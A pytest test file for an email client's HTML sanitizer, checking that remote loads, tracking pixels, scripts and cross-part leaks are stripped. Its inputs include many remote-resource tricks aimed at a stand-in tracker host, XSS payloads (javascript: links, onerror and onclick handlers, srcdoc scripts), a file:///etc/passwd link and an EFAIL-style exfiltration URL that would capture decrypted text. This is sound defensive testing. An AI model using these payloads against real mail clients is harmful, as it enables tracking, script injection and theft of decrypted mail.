"""The HTML allow-list: nothing runs, nothing remote loads until allowed, parts stay apart."""

from __future__ import annotations

import pytest

from app.mail.limits import MAX_HTML_NESTING
from app.mail.sanitize import render_message, sanitize_html
from tests.mail.builders import entity, message, multipart

TRACKER = "http://tracker.example"


def remote_forms(base: str) -> dict[str, str]:
    """Every way an HTML mail can name a remote resource, each with its own path on base."""
    host = base.split("://", 1)[1]
    return {
        "img": f'<img src="{base}/img.gif" alt="logo">',
        "img-spaced-scheme": f'<img src=" h\ttp{base[4:]}/img2.gif">',
        "protocol-relative": f'<img src="//{host}/rel.gif">',
        "srcset": f'<img srcset="{base}/1x.png 1x, {base}/2x.png 2x">',
        "background-attr": f'<table background="{base}/bg.png"><tr><td>t</td></tr></table>',
        "td-background": f'<table><tr><td background="{base}/td.png">t</td></tr></table>',
        "style-url": f'<p style="color:red;background:url({base}/css.png)">c</p>',
        "style-url-quoted": f"<p style=\"background-image: url('{base}/q.png')\">q</p>",
        "style-escape": f'<p style="background:u\\72l({base}/esc.png)">e</p>',
        "style-comment": f'<p style="background:url/**/({base}/cm.png)">m</p>',
        "style-image-set": f'<p style="width:image-set(&quot;{base}/set.png&quot; 1x)">s</p>',
        "style-block": f"<style>@import url({base}/import.css); p {{ background: "
                       f"url({base}/sheet.png) }}</style><p>styled</p>",
        "link": f'<link rel="stylesheet" href="{base}/link.css"><p>linked</p>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={base}/refresh">',
        "base": f'<base href="{base}/base/"><img src="relative.png">',
        "svg-image": f'<svg><image href="{base}/svg.png"/><image xlink:href="{base}/x.png"/>'
                     "</svg>",
        "video-poster": f'<video poster="{base}/poster.png" src="{base}/v.mp4"></video>',
        "audio": f'<audio src="{base}/a.mp3"></audio>',
        "input-image": f'<input type="image" src="{base}/input.png">',
        "iframe": f'<iframe src="{base}/frame.html"></iframe>',
        "object": f'<object data="{base}/obj.swf"></object><embed src="{base}/e.swf">',
        "body-background": f'<body background="{base}/body.png">b</body>',
        "script-src": f'<script src="{base}/s.js"></script>',
        "svg-data-image": '<img src="data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iaHR0cDovL'
                          '3RyYWNrZXIuZXhhbXBsZS9zdmciLz48L3N2Zz4=">',
        "form": f'<form action="{base}/post"><input name="q"></form>',
    }


REMOTE_FORMS = remote_forms(TRACKER)


@pytest.mark.parametrize("form", sorted(REMOTE_FORMS))
def test_no_remote_reference_survives(form: str) -> None:
    cleaned = sanitize_html(REMOTE_FORMS[form]).html
    assert "tracker.example" not in cleaned
    assert "PHN2Zz48" not in cleaned  # the SVG document in a data: URL is gone too


def test_blocked_count_is_what_allowing_would_bring_back() -> None:
    html = "".join(REMOTE_FORMS[f] for f in ("img", "protocol-relative", "background-attr",
                                             "td-background", "style-url", "link"))
    blocked = sanitize_html(html)
    assert blocked.blocked_remote == 4  # two images, two backgrounds
    allowed = sanitize_html(html, allow_remote=True)
    assert allowed.blocked_remote == 0
    assert f'src="{TRACKER}/img.gif"' in allowed.html
    assert f'background="{TRACKER}/bg.png"' in allowed.html
    # CSS loaders and style sheets stay out even when remote content is allowed.
    assert "css.png" not in allowed.html and "link.css" not in allowed.html


def test_active_content_is_removed() -> None:
    html = (
        '<p onclick="steal()" onmouseover="x()">hi</p><script>alert(1)</script>'
        '<a href="javascript:alert(1)">js</a><a href=" JaVaScRiPt:alert(2)">js2</a>'
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>'
        '<a href="vbscript:msgbox">vb</a><a href="file:///etc/passwd">file</a>'
        '<form><input value="secret"><button>Send</button></form>'
        '<iframe srcdoc="<script>x()</script>">fallback</iframe><math><mi>x</mi></math>'
        '<img src=x onerror="alert(1)"><details open ontoggle="y()">d</details>'
    )
    cleaned = sanitize_html(html).html
    for needle in ("onclick", "onmouseover", "<script", "alert", "javascript", "data:text",
                   "vbscript", "file:", "<form", "<input", "<button", "<iframe", "srcdoc",
                   "onerror", "ontoggle", "<math"):
        assert needle not in cleaned.lower()
    assert "hi" in cleaned


def test_message_content_stays() -> None:
    pixel = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    html = (f'<p style="color:#336699;font-weight:bold">見積書</p><img src="cid:logo@x">'
            f'<img src="{pixel}"><a href="https://example.jp/a?b=1&amp;c=2">link</a>'
            '<a href="mailto:ken@example.jp">mail</a><table border="1"><tr><td>1</td></tr></table>')
    cleaned = sanitize_html(html)
    assert cleaned.blocked_remote == 0
    for kept in ("見積書", "color:#336699", 'src="cid:logo@x"', pixel, "https://example.jp/a",
                 "mailto:ken@example.jp", 'rel="noopener noreferrer"', "<table"):
        assert kept in cleaned.html


def test_absurd_nesting_is_shown_as_text() -> None:
    deep = "<div>" * (MAX_HTML_NESTING * 50) + "<b>deep &amp; hidden</b><script>x()</script>"
    cleaned = sanitize_html(deep)
    assert "deep &amp; hidden" in cleaned.html
    assert "<div><div>" not in cleaned.html and "script" not in cleaned.html


def test_ordinary_unclosed_paragraphs_are_not_mistaken_for_nesting() -> None:
    html = "<p>line" * (MAX_HTML_NESTING * 3)
    assert sanitize_html(html).html.count("<p>") == MAX_HTML_NESTING * 3


def test_each_html_part_is_cleaned_on_its_own() -> None:
    """EFAIL: an unclosed attribute in one part must not swallow the next part into a URL."""
    first = entity("text/html; charset=utf-8", f'<img src="{TRACKER}/leak?')
    secret = entity("text/html; charset=utf-8", "<p>decrypted secret</p>")
    last = entity("text/html; charset=utf-8", '">')
    raw = message(multipart("mixed", first, secret, last))
    safe = render_message(raw)
    assert len(safe.html_parts) == 3
    assert "decrypted secret" in safe.html_parts[1]
    assert all("tracker" not in part for part in safe.html_parts)
    assert "secret" not in safe.html_parts[0] + safe.html_parts[2]


def test_a_text_part_beside_html_is_shown_in_its_place_escaped() -> None:
    """A list footer (text/plain after an HTML alternative) is neither dropped nor pasted
    into the HTML: it is a document of its own, every character escaped."""
    body = multipart("alternative", entity("text/plain; charset=utf-8", "本文です"),
                     entity("text/html; charset=utf-8", "<p>本文です</p>"))
    footer = entity("text/plain; charset=utf-8", "配信停止 <https://list.example/off>\n& co")
    safe = render_message(message(multipart("mixed", body, footer)))
    assert len(safe.html_parts) == 2
    assert "<p>本文です</p>" in safe.html_parts[0] and "配信停止" not in safe.html_parts[0]
    assert "&lt;https://list.example/off&gt;\n&amp; co" in safe.html_parts[1]
    only_text = render_message(message(multipart("mixed", entity("text/plain", "a"), footer)))
    assert only_text.html_parts == []  # no HTML at all: the reader shows the text as text


def test_render_keeps_remote_images_only_when_allowed() -> None:
    raw = message(entity("text/html; charset=utf-8", REMOTE_FORMS["img"]))
    assert render_message(raw).blocked_remote == 1
    allowed = render_message(raw, allow_remote=True)
    assert allowed.blocked_remote == 0 and "img.gif" in allowed.html_parts[0]
